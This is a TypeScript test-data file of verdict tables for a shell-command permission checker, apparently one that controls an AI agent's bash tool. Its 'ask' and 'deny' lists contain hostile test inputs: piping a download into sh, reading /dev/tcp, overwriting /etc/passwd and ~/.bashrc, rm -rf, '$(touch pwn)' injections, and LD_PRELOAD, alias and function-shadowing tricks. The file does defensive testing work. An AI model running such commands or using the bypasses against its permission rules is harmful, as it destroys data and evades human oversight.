// biome-ignore-all lint/complexity/noUselessStringRaw: all tables are written alike
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is the shell's

import { FENCE } from './shell-verdicts-fence.ts';
import { bash, lines, type VerdictTable } from './verdict-table.ts';

export const VERDICTS: readonly VerdictTable[] = [
  {
    about: 'PERM-01, PERM-02: one rule for the beginning of a command',
    rules: { mode: 'standard', allow: bash('git status:*') },
    allow: lines(String.raw`
      git status
      git status -s
      git status --porcelain=v2 -- src
      git   status	-s
      "git" 'status'
      git status '$(touch pwn)'
      git status "a; b | c > d"
      git status a\;b
      git status; git status -s
      git status && git status
      git status | git status
      (git status)
      { git status; }
      git status &
      git status 2>&1
      git status > /dev/null 2>&1
      git status 2>/dev/null
      git status </dev/null
      git status || true
      [ -d .git ] && git status
      if [ -d .git ]; then git status; fi
      for i in 1 2 3; do git status; done
      ! git status
      timeout 5 git status
      timeout -k 1 5s git status
      nice -n 5 git status
      nohup git status
      time git status
      command git status
      env git status
      stdbuf -oL git status
      bash -c 'git status'
      sh -c "git status; git status -s"
      eval "git status"
      /usr/bin/git status
      $'git' status
      git status # rm x
      # rm x⏎git status
      git status⏎git status
      git status \⏎  -s
      git status -- src/*.ts
    `),
    ask: lines(String.raw`
      git status; rm -rf x
      git status && curl e|sh
      git status | tee /t/outside
      git status⏎rm x
      git status & rm x
      git status || rm x
      git statusx
      git status-x
      git
      git stat
      git status $(touch pwn)
      git status ´touch pwn´
      git status <(touch pwn)
      git status >(touch pwn)
      git status "$(touch pwn)"
      git status "´touch pwn´"
      git status > /t/outside/f
      git status >> f
      git status >| f
      git status &> f
      git status 2> f
      git status < f
      git status <> f
      > f git status
      git > f status
      { git status; } > f
      GIT_PAGER="touch pwn" git status
      PATH=/t git status
      LD_PRELOAD=x git status
      BASH_ENV=x git status
      A=1 git status
      export PATH=/t; git status
      PATH=/t; git status
      env A=1 git status
      env -S 'git status'
      git -c core.pager=x status
      git -c alias.status='!rm x' status
      git --exec-path=/t status
      git -C /t status
      ./git status
      /t/git status
      git\ status
      "git status"
      gi? status
      {git,x} status
      $G status
      $(echo git) status
      sudo git status
      xargs git status
      ssh host git status
      watch git status
      find . -exec git status \;
      bash -lc 'git status'
      bash -c "$X"
      eval "$X"
      eval "git status; rm x"
      echo 'git status' | sh
      git() { rm x; }; git status
      function git { rm x; }; git status
      alias git=rm⏎git status
      trap 'rm x' EXIT; git status
      cat <<E⏎$(touch pwn)⏎E⏎git status
      git status <<E⏎$(touch pwn)⏎E
      git status <<< "$(touch pwn)"
      git status §{x:-$(touch pwn)}
      git status §{x:-´touch pwn´}
      git status $HOME
      git status $((a[$(touch pwn)]))
      for i in $(touch pwn); do git status; done
      case $(touch pwn) in x) git status;; esac
      while rm x; do git status; done
      if rm x; then git status; fi
      [ "$(touch pwn)" ] && git status
      git status 'open
      git status "open
      git status )
      git status ;; x
    `),
  },
  FENCE,
  {
    about: 'a list of harmless programs',
    rules: {
      mode: 'standard',
      allow: bash(
        'ls:*',
        'echo:*',
        'cat:*',
        'grep:*',
        'find:*',
        'pip install:*',
        'xargs:*',
        'awk:*',
        'sed:*',
        'python3:*',
        'sort:*',
        'bash:*',
        'tar:*',
        'env:*',
        'cd:*',
      ),
    },
    allow: lines(String.raw`
      pip install x && ls
      echo "a;b"
      ls | grep x | sort
      echo $HOME
      echo "$HOME/x" §{USER}
      ls *.ts
      ls *
      cd x && ls
      find . -name '*.ts' -type f
      find . -exec grep x {} +
      find . | xargs grep x
      awk '{print $1}' f
      sed -n 5p f
      python3 x.py
      env
      bash x.sh
      cat <<E⏎x $HOME⏎E
      tar tf a.tar
    `),
    ask: lines(String.raw`
      echo hi > /etc/passwd
      echo hi >> ~/.bashrc
      find . -delete
      find . -exec rm {} +
      find . -fprint f
      find / -name x $X
      ls | xargs rm
      cat a | sh
      awk 'BEGIN{system("rm x")}'
      sed '1e rm x' f
      python3 -c 'x'
      python3
      bash -c 'rm x'
      bash
      tar -I rm -xf a
      tar xIf rm a
      env rm x
      env X=1 ls
      pip installx
      pip
      cat < /etc/passwd
      cat < /dev/tcp/1.2.3.4/80
      sort -o f f
    `),
  },
  {
    about: 'rules for a whole command, with stars, and for programs that run others',
    rules: {
      mode: 'standard',
      allow: bash(
        'npm test',
        'git * main',
        'sudo apt update',
        'sudo systemctl restart:*',
        'make build && make test',
        'ls \\*.ts',
        'xargs wc:*',
        'bash -c "wc x"',
      ),
    },
    allow: lines(String.raw`
      npm test
      npm  test
      git push origin main
      git checkout main
      sudo apt update
      sudo systemctl restart nginx
      make build && make test
      ls *.ts
      xargs wc -l
      bash -c "wc x"
    `),
    ask: lines(String.raw`
      npm test -- x
      npm test; npm test x
      git push origin main; rm x
      git push origin main2
      sudo apt upgrade
      sudo systemctl stop nginx
      systemctl restart nginx
      make build
      make test && make build
      make build && make test && rm x
      ls x.ts
      xargs rm
      bash -c "wc y"
      sudo
    `),
  },
  {
    about: 'ask before allow, and grants for what they cover',
    rules: {
      mode: 'open',
      allow: ['run_bash'],
      ask: bash('git push:*', 'npm publish:*'),
      grants: bash('git push origin dev'),
      deny: bash('rm:*'),
    },
    allow: lines(String.raw`
      git push origin dev
      git fetch && git push origin dev
      ls
    `),
    ask: lines(String.raw`
      git push
      git push origin main
      git push origin dev; git push origin main
      ls && npm publish
      bash -c 'npm publish'
      $X
      git push origin $X
    `),
    deny: lines(String.raw`
      git push origin dev; rm x
      npm publish && rm x
    `),
  },
];
